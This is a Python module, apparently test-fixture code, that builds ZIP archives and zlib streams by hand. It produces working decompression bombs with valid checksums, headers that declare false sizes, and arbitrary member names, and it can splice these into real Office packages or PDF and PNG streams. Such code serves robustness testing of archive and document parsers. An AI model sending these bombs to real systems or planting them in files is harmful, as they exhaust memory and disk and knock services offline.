"""ZIP containers written by hand: bombs that cost almost nothing on disk, lying headers, any member name.

A zip bomb is one deflate stream whose middle is a single compressed block repeated: after a
full flush the compressor forgets its history, so the block for a chunk of input (1 MB of the
same few bytes compresses to about a kilobyte) can be repeated N times and still inflates, N
times, to that chunk. The CRC of the whole is computed with zlib's ``crc32_combine`` algorithm
(by doubling), so a 2.5 GB member is built in milliseconds and is a *valid* member: only its size
gives it away.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib's algorithm)."""
    if length2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def crc32_repeated(chunk: bytes, count: int) -> int:
    return _repeated(zlib.crc32, crc32_combine, chunk, count, 0)


def adler32_combine(adler1: int, adler2: int, length2: int) -> int:
    """Adler-32 of A+B from adler(A), adler(B) and len(B) (zlib's algorithm)."""
    base = 65521
    remainder = length2 % base
    sum1 = adler1 & 0xFFFF
    sum2 = (remainder * sum1) % base
    sum1 += (adler2 & 0xFFFF) + base - 1
    sum2 += ((adler1 >> 16) & 0xFFFF) + ((adler2 >> 16) & 0xFFFF) + base - remainder
    sum1 -= base if sum1 >= base else 0
    sum1 -= base if sum1 >= base else 0
    sum2 -= (base << 1) if sum2 >= (base << 1) else 0
    sum2 -= base if sum2 >= base else 0
    return sum1 | (sum2 << 16)


def _repeated(checksum, combine, chunk: bytes, count: int, empty: int) -> int:  # type: ignore[no-untyped-def]
    result, result_len = empty, 0
    base, base_len = checksum(chunk), len(chunk)
    while count:
        if count & 1:
            result, result_len = combine(result, base, base_len), result_len + base_len
        base, base_len = combine(base, base, base_len), 2 * base_len
        count >>= 1
    return result


def _deflate_repeated(prefix: bytes, chunk: bytes, count: int, suffix: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush(zlib.Z_FINISH)
    return head + block * count + tail


def zlib_bomb(prefix: bytes, chunk: bytes, count: int, suffix: bytes = b"") -> bytes:
    """A zlib stream (PDF FlateDecode, PNG IDAT) of ``prefix + chunk * count + suffix``, correct checksum."""
    adler = adler32_combine(zlib.adler32(prefix), _repeated(zlib.adler32, adler32_combine, chunk, count, 1),
                            len(chunk) * count)
    adler = adler32_combine(adler, zlib.adler32(suffix), len(suffix))
    return b"\x78\xda" + _deflate_repeated(prefix, chunk, count, suffix) + struct.pack(">I", adler)


@dataclass(frozen=True)
class Member:
    """One member as it goes into the archive: raw (deflated or stored) bytes and what the headers say."""

    name: str
    raw: bytes
    crc: int
    size: int  # uncompressed size the headers declare
    method: int = zipfile.ZIP_DEFLATED


def deflated(name: str, data: bytes) -> Member:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))


def bomb(name: str, prefix: bytes, chunk: bytes, count: int, suffix: bytes, declared: int | None = None) -> Member:
    """``prefix + chunk * count + suffix``, deflated with the chunk's block repeated; ``declared``: a lie."""
    size = len(prefix) + len(chunk) * count + len(suffix)
    crc = crc32_combine(crc32_combine(zlib.crc32(prefix), crc32_repeated(chunk, count), len(chunk) * count),
                        zlib.crc32(suffix), len(suffix))
    return Member(name, _deflate_repeated(prefix, chunk, count, suffix), crc, size if declared is None else declared)


def zip_bytes(members: list[Member]) -> bytes:
    """A ZIP with these members exactly as given (names, sizes and CRCs are not checked)."""
    out = io.BytesIO()
    central = []
    for member in members:
        name = member.name.encode("utf-8")
        offset = out.tell()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, member.method, 0, 0x21,
                             member.crc & 0xFFFFFFFF, len(member.raw), member.size & 0xFFFFFFFF, len(name), 0)
        out.write(header + name + member.raw)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, member.method, 0, 0x21,
                                   member.crc & 0xFFFFFFFF, len(member.raw), member.size & 0xFFFFFFFF, len(name),
                                   0, 0, 0, 0, 0, offset) + name)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    count = len(members)
    if count > 0xFFFF:  # ZIP64 end of central directory: the classic record counts only to 65,535
        end64 = out.tell()
        out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(directory), start))
        out.write(struct.pack("<IIQI", 0x07064B50, 0, end64, 1))
        count = 0xFFFF
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), start, 0))
    return out.getvalue()


def members_of(package: bytes, replace: dict[str, Member] | None = None, add: list[Member] | None = None) -> list[Member]:
    """The members of a real package (written by python-docx/openpyxl), some replaced, some added."""
    replace = replace or {}
    members = []
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        for info in source.infolist():
            members.append(replace.get(info.filename) or deflated(info.filename, source.read(info.filename)))
    return members + list(add or [])


def write(path: Path, members: list[Member]) -> Path:
    path.write_bytes(zip_bytes(members))
    return path
